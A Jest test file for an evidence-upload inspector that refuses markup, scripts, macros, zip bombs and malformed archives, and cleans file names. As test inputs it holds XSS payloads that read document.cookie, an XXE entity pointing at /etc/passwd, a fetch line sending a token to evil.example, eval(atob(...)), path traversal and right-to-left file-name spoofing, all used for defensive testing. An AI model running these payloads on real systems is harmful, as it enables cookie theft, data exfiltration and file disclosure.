import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EvidenceSettings } from './evidence-settings';
import { cleanFileName, downloadName, type EvidenceInspection, inspectEvidenceFile } from './evidence-inspection';
import { DOCX_TYPE, docxBomb, docxEntries, XLSX_TYPE, xlsxEntries, zerosEntry, zip } from './evidence.test-fixtures';
import type { ArchiveLimits } from './ooxml';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]);
const DEFAULT_LIMITS = EvidenceSettings.from().archive;
const MIB = 1024 * 1024;

describe('inspectEvidenceFile', () => {
  let dir: string;
  let n = 0;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'beacon-inspection-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /** Writes `content` to a file of its own and inspects it. */
  const inspect = (content: Buffer | string, name = 'evidence.txt', mime = 'application/octet-stream', limits: ArchiveLimits = DEFAULT_LIMITS): Promise<EvidenceInspection> => {
    n += 1;
    const path = join(dir, `upload-${n}`);
    writeFileSync(path, content);
    return inspectEvidenceFile(path, name, mime, limits);
  };
  const refusal = async (...args: Parameters<typeof inspect>): Promise<string> => {
    const result = await inspect(...args);
    if (result.ok) throw new Error(`accepted as ${result.mediaType}`);
    expect(result.message).toContain('Send a PDF');
    return result.reason;
  };

  describe('accepts each evidence type by its content, with its extension', () => {
    it.each([
      ['PDF', PDF, 'policy.pdf', 'application/pdf', 'pdf'],
      ['PNG', PNG, 'shot.png', 'image/png', 'png'],
      ['JPEG', JPEG, 'photo.jpeg', 'image/jpeg', 'jpg'],
      ['plain text', 'Moderation policy reviewed on 2025-01-10.\n', 'notes.txt', 'text/plain', 'txt'],
      ['CSV', 'month,reports\n2025-01,12\n2025-02,"9, of which 2 escalated"\n', 'reports.csv', 'text/csv', 'csv'],
      ['a single-record CSV named .csv', 'month,reports', 'one.csv', 'text/csv', 'csv'],
      ['a DOCX (deflated parts)', zip(docxEntries()), 'procedure.docx', DOCX_TYPE, 'docx'],
      ['a DOCX (stored parts)', zip({ '[Content_Types].xml': '<Types/>', '_rels/.rels': '<Relationships/>', 'word/document.xml': '<w:document/>' }), 'p.docx', DOCX_TYPE, 'docx'],
      ['an XLSX', zip(xlsxEntries()), 'figures.xlsx', XLSX_TYPE, 'xlsx'],
      ['a PDF whatever its name and declared type', PDF, 'scan.png', 'application/pdf', 'pdf', 'text/html'],
    ])('%s', async (_label, content, name, mediaType, extension, mime = 'application/octet-stream') => {
      expect(await inspect(content, name, mime)).toEqual({ ok: true, mediaType, extension });
    });
  });

  describe('markup and script', () => {
    it.each(['page.html', 'page.HTM', 'page.xhtml', 'app.js', 'module.mjs', 'logo.svg', 'feed.xml', 'run.bat', 'notes.txt.html'])(
      'refuses a file named %s, whatever it holds',
      async (name) => {
        expect(await refusal('Plain words only.\n', name)).toBe('markup-or-script-name');
        expect(await refusal(PDF, name)).toBe('markup-or-script-name');
      },
    );

    it.each(['text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/javascript; charset=utf-8', 'application/javascript', 'application/xml'])(
      'refuses text the client declares as %s',
      async (mime) => {
        expect(await refusal('Plain words only.\n', 'notes.txt', mime)).toBe('markup-or-script-type');
      },
    );

    it.each([
      ['an HTML page', '<!-- notes -->\n<html><body><script>alert(1)</script></body></html>\n'],
      ['a doctype', '<!DOCTYPE html>\n<title>x</title>'],
      ['an HTML fragment', 'Summary\n<p>Quarterly review</p>\n'],
      ['an element with attributes', 'See <a href="https://example.org">the report</a>'],
      ['an event handler', 'x <img src=x onerror=alert(document.cookie)> y'],
      ['an event handler far into a tag', `<x-widget ${'data-a="1" '.repeat(40)} onmouseover="steal()">`],
      ['a script URL', '<x href="javascript:alert(1)">'],
      ['a self-closing element', 'line one<br/>line two'],
      ['XHTML', '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head/></html>'],
      ['namespaced XHTML script', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'],
      ['SVG with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
      ['SVG with onload', '<svg/onload=alert(1)>'],
      ['an XML entity', '<!ENTITY xxe SYSTEM "file:///etc/passwd">'],
      ['an iframe', 'Click <iframe src=//evil.example>'],
      ['upper-case markup', '<SCRIPT>alert(1)</SCRIPT>'],
    ])('refuses %s in a text file', async (_label, content) => {
      expect(await refusal(content, 'notes.txt', 'text/plain')).toBe('markup');
    });

    it.each([
      ['a function', 'function steal(token) {\n  fetch("https://evil.example/?t=" + token);\n}\n'],
      ['an anonymous function', 'var f = function () { return 1 }'],
      ['an arrow function', 'setTimeout(() => { go(); }, 10)'],
      ['a DOM call', "document.write('hello')"],
      ['a DOM assignment', 'window.location = "https://evil.example"'],
      ['eval', 'eval(atob("YWxlcnQoMSk="))'],
      ['new Function', 'new Function("return this")()'],
      ['require', "const fs = require('fs')"],
      ['module.exports', 'module.exports = run'],
      ['an ES module import', "import { readFile } from 'node:fs'\nreadFile('x')"],
      ['an ES module export', 'export default class X {}'],
      ['a declaration', 'let counter = 0;\n'],
      ['"use strict"', '"use strict"\nrun()'],
      ['a node shebang', '#!/usr/bin/env node\nrun()'],
    ])('refuses %s in a text file', async (_label, content) => {
      expect(await refusal(content, 'notes.txt', 'text/plain')).toBe('script');
    });

    it.each([
      'Reports fell: 12 < 15, and x<y holds. <3',
      'Contact <trust-safety@example.org> or <Ada Owner <ada@example.org>>.',
      'Template: Subject: <subject>, Body: <body>, see <link>.',
      'Choose option <a> or <b>; a => b means a implies b.',
      'The function (see section 3) applies; let x = 5 in the example.',
      'We use JavaScript: no. The window. It was open. Document.Write is a title.',
      'Scores: a<b>c and 3 <= 4 >= 2; "<" and ">" are shown as is.',
      'The import from Canada was eval (evaluated) on time.',
    ])('accepts prose with < and code-like words: %s', async (text) => {
      expect(await inspect(text, 'notes.txt', 'text/plain')).toEqual({ ok: true, mediaType: 'text/plain', extension: 'txt' });
    });

    it('finds markup that straddles two chunks of a large file, and tells CSV over chunks', async () => {
      const prose = 'All quiet this week.\n'.repeat(3200); // 67,200 bytes: past the first 64 KiB chunk
      expect(await refusal(`${prose.slice(0, 65530)}<script>alert(1)</script>`, 'notes.txt')).toBe('markup');
      expect(await refusal(`${prose.slice(0, 65532)}\ndocument.write(1)`, 'notes.txt')).toBe('script');
      expect(await inspect(prose, 'notes.txt')).toMatchObject({ ok: true, mediaType: 'text/plain' });
      // The text carried over to the next chunk starts mid-line here, right at "let": not a line start.
      const midLine = `${'All quiet. '.repeat(6000).slice(0, 65536 - 2048)}let counter = 0;\n${'More notes.\n'.repeat(300)}`;
      expect(await inspect(midLine, 'notes.txt')).toMatchObject({ ok: true, mediaType: 'text/plain' });
      const csv = `week,reports\n${'2025-W01,"12\n(2 late)"\n'.repeat(4000)}`;
      expect(await inspect(csv, 'weeks.txt')).toMatchObject({ ok: true, mediaType: 'text/csv' });
      expect(await inspect(`${csv}2025-W02,1,extra\n`, 'weeks.txt')).toMatchObject({ ok: true, mediaType: 'text/plain' });
    });

    it('refuses binary that is neither a known type nor text', async () => {
      expect(await refusal(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64)]), 'tool.exe')).toBe('unrecognised-content');
      expect(await refusal(Buffer.from([0xc3, 0x28, 0x41]), 'bad.txt')).toBe('unrecognised-content');
      expect(await refusal('bell\u0007', 'bad.txt')).toBe('unrecognised-content');
      expect(await refusal('', 'empty.txt')).toBe('unrecognised-content');
    });
  });

  describe('office files (OOXML)', () => {
    it('refuses a ZIP that is not exactly one DOCX or XLSX', async () => {
      expect(await refusal(zip({ 'readme.txt': 'hello' }), 'archive.docx')).toBe('not-office-document');
      expect(await refusal(zip({ '[Content_Types].xml': '<Types/>', '_rels/.rels': '<R/>', 'word/styles.xml': '<w/>' }), 'no-body.docx')).toBe('not-office-document');
      expect(await refusal(zip({ '_rels/.rels': '<R/>', 'word/document.xml': '<w/>' }), 'no-types.docx')).toBe('not-office-document');
      expect(await refusal(zip(docxEntries([{ name: 'xl/workbook.xml', content: '<workbook/>' }])), 'both.docx')).toBe('not-office-document');
    });

    it('refuses macros', async () => {
      expect(await refusal(zip(docxEntries([{ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }])), 'macro.docx')).toBe('office-macros');
      expect(await refusal(zip(xlsxEntries([{ name: 'xl/vbaProject.bin', content: 'Attribute VB_Name' }])), 'macro.xlsx')).toBe('office-macros');
    });

    it('refuses more entries than the limit', async () => {
      const limits = { maxEntries: 5, maxUncompressedBytes: MIB };
      const media = (count: number) => Array.from({ length: count }, (_, i) => ({ name: `word/media/image${i}.png`, content: 'x' }));
      expect(await inspect(zip(docxEntries(media(2))), 'five.docx', '', limits)).toMatchObject({ ok: true });
      expect(await refusal(zip(docxEntries(media(3))), 'six.docx', '', limits)).toBe('zip-too-many-entries');
    });

    it('refuses a bomb whose headers understate its size, by inflating it no further than they say', async () => {
      expect(await refusal(docxBomb(8), 'bomb.docx')).toBe('zip-understated-size');
      // Large entries are streamed rather than inflated in memory: the same lie is found there.
      expect(await refusal(zip(docxEntries([zerosEntry('word/media/filler.bin', 8, 2 * MIB)])), 'bomb.docx')).toBe('zip-understated-size');
    });

    it('refuses the 256 MiB bomb of the report (a 260 KiB DOCX) with the default limits', async () => {
      const bomb = docxBomb(256);
      expect(bomb.length).toBeLessThan(300 * 1024);
      expect(await refusal(bomb, 'bomb.docx')).toBe('zip-understated-size');
    });

    it('refuses honest headers that add up to more than the limit, and accepts them up to it', async () => {
      const limits = { maxEntries: 1000, maxUncompressedBytes: 4 * MIB };
      const twoOfTwo = [zerosEntry('word/media/a.bin', 2), zerosEntry('word/media/b.bin', 2)];
      expect(await refusal(zip(docxEntries(twoOfTwo)), 'big.docx', '', limits)).toBe('zip-too-large-uncompressed');
      const parts = docxEntries().reduce((sum, e) => sum + Buffer.byteLength(e.content), 0);
      const fits = [zerosEntry('word/media/a.bin', 2), zerosEntry('word/media/b.bin', 1), { name: 'word/media/c.bin', content: Buffer.alloc(MIB - parts) }];
      expect(await inspect(zip(docxEntries(fits)), 'fits.docx', '', limits)).toEqual({ ok: true, mediaType: DOCX_TYPE, extension: 'docx' });
    });

    it('accepts 1,000 entries by default and refuses 1,001', async () => {
      const media = (count: number) => Array.from({ length: count }, (_, i) => ({ name: `word/media/image${i}.png`, content: 'x' }));
      expect(await inspect(zip(docxEntries(media(997))), 'many.docx')).toMatchObject({ ok: true });
      expect(await refusal(zip(docxEntries(media(998))), 'too-many.docx')).toBe('zip-too-many-entries');
    });

    it('refuses encrypted, unusually compressed, damaged and malformed ZIPs', async () => {
      expect(await refusal(zip(docxEntries([{ name: 'word/secret.xml', content: 'x', flags: 1 }])), 'e.docx')).toBe('zip-encrypted');
      const bzip2 = zip(docxEntries([{ name: 'word/media/a.bin', content: 'abc' }]));
      bzip2.writeUInt16LE(12, bzip2.lastIndexOf(Buffer.from('word/media/a.bin')) - 46 + 10); // its directory entry's method
      expect(await refusal(bzip2, 'b.docx')).toBe('zip-unsupported-compression');
      expect(await refusal(zip(docxEntries([{ name: 'word/x.xml', content: 'abc', declaredCrc: 1 }])), 'crc.docx')).toBe('zip-corrupt');
      expect(await refusal(zip(docxEntries([{ name: 'word/x.xml', content: 'abc', method: 'deflate', declaredSize: 4 }])), 'short.docx')).toBe('zip-corrupt');
      expect(await refusal(zip(docxEntries([{ name: 'word/x.xml', content: '', deflated: Buffer.from([1, 2, 3]) }])), 'junk.docx')).toBe('zip-corrupt');
      const good = zip(docxEntries());
      expect(await refusal(good.subarray(0, good.length - 10), 'cut.docx')).toBe('zip-malformed');
      expect(await refusal(Buffer.concat([good, Buffer.from('trailing')]), 'tail.docx')).toBe('zip-malformed');
      const garbled = Buffer.from(good);
      garbled.write('X', garbled.indexOf(Buffer.from('word/document.xml'))); // the local name no longer matches the directory
      expect(await refusal(garbled, 'garbled.docx')).toBe('zip-malformed');
    });

    it('refuses two directory entries that share one stretch of bytes', async () => {
      const entries = zip(docxEntries([{ name: 'word/a.xml', content: 'abc' }, { name: 'word/b.xml', content: 'abc' }]));
      // Point word/b.xml's directory entry at word/a.xml's local header.
      const aOffset = entries.indexOf(Buffer.from('word/a.xml')) - 30;
      const bCentral = entries.lastIndexOf(Buffer.from('word/b.xml')) - 46;
      entries.writeUInt32LE(aOffset, bCentral + 42);
      expect(await refusal(entries, 'overlap.docx')).toBe('zip-malformed');
    });
  });
});

describe('cleanFileName', () => {
  it.each([
    ['invoice\u202Efdp.exe', 'invoicefdp.exe'],
    ['a\u202Ab\u202Bc\u202Cd\u202De\u2066f\u2067g\u2068h\u2069i\u200Ej\u200Fk\u061Cl.txt', 'abcdefghijkl.txt'],
    ['line\nbreak\r\tand\u0000nul\u007f\u0085\u2028.txt', 'linebreakandnul.txt'],
    ['\uFEFFbom.pdf', 'bom.pdf'],
    ['C:\\Users\\ada\\report.pdf', 'report.pdf'],
    ['../../etc/passwd', 'passwd'],
    ['page.html. . ', 'page.html'],
    ['..', 'evidence'],
    ['\u202E', 'evidence'],
    ['Politique d’été (v2).pdf', 'Politique d’été (v2).pdf'],
  ])('%j → %j', (name, cleaned) => {
    expect(cleanFileName(name)).toBe(cleaned);
  });

  it('keeps at most 255 characters without splitting a surrogate pair', () => {
    const cleaned = cleanFileName(`${'a'.repeat(254)}😀😀.txt`);
    expect(Array.from(cleaned)).toHaveLength(255);
    expect(cleaned.endsWith('😀')).toBe(true);
  });
});

describe('downloadName', () => {
  it.each([
    ['report.pdf.exe', 'application/pdf', 'report.pdf.exe.pdf'],
    ['report.pdf', 'application/pdf', 'report.pdf'],
    ['photo.JPEG', 'image/jpeg', 'photo.JPEG'],
    ['photo.png', 'image/jpeg', 'photo.png.jpg'],
    ['README', 'text/plain', 'README.txt'],
    ['page.html', 'text/plain', 'page.html.txt'],
    ['data.csv', 'text/csv', 'data.csv'],
    ['data.txt', 'text/csv', 'data.txt.csv'],
    ['procedure.docx', DOCX_TYPE, 'procedure.docx'],
    ['figures.xlsm', XLSX_TYPE, 'figures.xlsm.xlsx'],
    ['evil\u202Efdp.exe', 'application/pdf', 'evilfdp.exe.pdf'],
  ] as const)('%j holding %s → %j', (name, type, expected) => {
    expect(downloadName(name, type)).toBe(expected);
  });
});
